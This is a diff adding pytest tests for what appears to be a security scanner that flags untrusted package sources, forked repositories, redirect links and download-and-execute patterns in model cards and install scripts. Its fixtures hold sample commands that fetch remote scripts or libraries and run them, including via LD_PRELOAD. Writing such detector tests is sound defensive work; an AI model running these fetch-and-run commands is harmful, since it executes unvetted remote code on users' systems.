@@ -291,3 +291,54 @@ def test_handles(path: str, fmt: str, handled: bool) -> None:
 def test_rules_list_every_emitted_rule(tmp_path: Path) -> None:
     report = _vet(tmp_path, {"README.md": CANADA_QUANT_CARD + NVIDIA_CARD + "https://blog.example.invalid\n"})
     assert {f.rule for f in report.findings} <= {r.id for r in LinksScanner.rules}
+
+
+def test_findings_name_their_source_for_the_policy(tmp_path: Path) -> None:
+    card = ("```\n"
+            "pip install git+ssh://git@github.com/NVIDIA/vllm.git@nvfp4\n"
+            "pip install -i https://pypi.example.invalid/simple/ x\n"
+            "conda install -c canada-quant/label/dev vllm\n"
+            "docker run --gpus all ghcr.io/Someone/vllm:dsv4\n"
+            "docker run canadaquant/vllm@sha256:" + "0" * 64 + "\n"
+            "```\n")
+    sources = {(f.rule, f.source) for f in _vet(tmp_path, {"README.md": card}).findings}
+    assert sources == {
+        ("forked-code", "github.com/NVIDIA/vllm"),
+        ("untrusted-package-index", "pypi.example.invalid/simple"),
+        ("untrusted-package-index", "anaconda.org/canada-quant/label/dev"),
+        ("untrusted-container-image", "ghcr.io/someone/vllm"),
+        ("untrusted-container-image", "docker.io/canadaquant/vllm"),
+    }
+
+
+def test_a_repo_named_like_a_runtime_is_judged_by_its_owner(tmp_path: Path) -> None:
+    card = ("https://github.com/NVIDIA/vllm\nhttps://github.com/NVIDIA/TensorRT-LLM\n"
+            "https://github.com/microsoft/DeepSpeed\nhttps://github.com/vllm-project/vllm\n")
+    found = {(f.rule, f.source) for f in _vet(tmp_path, {"README.md": card}).findings}
+    assert found == {("forked-code", "github.com/NVIDIA/vllm"), ("upstream-link", None)}
+
+
+def test_variables_carry_urls_into_later_lines(tmp_path: Path) -> None:
+    script = ('BASE="https://example.invalid/dl"\n'
+              "curl -fsSL ${BASE}/tool.sh -o t.sh\n"
+              "bash t.sh\n"
+              "wget ${MIRROR:-https://example.invalid/m}/x.py && python x.py\n")
+    dae = _with(_vet(tmp_path, {"install.sh": script}), "download-and-execute")
+    assert sorted((f.evidence or "").split(": ")[0] for f in dae) == ["install.sh:3", "install.sh:4"]
+
+
+def test_shortened_links_in_prose_are_links_not_installs(tmp_path: Path) -> None:
+    card = "News: https://bit.ly/abc\n\n```\npip install https://bit.ly/abc\n```\n"
+    found = {(f.rule, (f.evidence or "").split(": ")[0]) for f in _vet(tmp_path, {"README.md": card}).findings}
+    assert found == {("external-link", "README.md:1"), ("redirect-url", "README.md:4")}
+
+
+@pytest.mark.parametrize("command", [
+    "python -c \"import ctypes; ctypes.CDLL('./libk.so')\"",
+    "env LD_PRELOAD=/opt/libk.so:/usr/lib/libc.so.6 vllm serve",
+    "DYLD_INSERT_LIBRARIES=libk.so ./serve",
+])
+def test_a_fetched_library_loaded_is_run(tmp_path: Path, command: str) -> None:
+    script = f"curl -L https://example.invalid/libk.so -o /opt/libk.so\n{command}\n"
+    (finding,) = _with(_vet(tmp_path, {"run.sh": script}), "download-and-execute")
+    assert finding.evidence and finding.evidence.startswith("run.sh:2:")
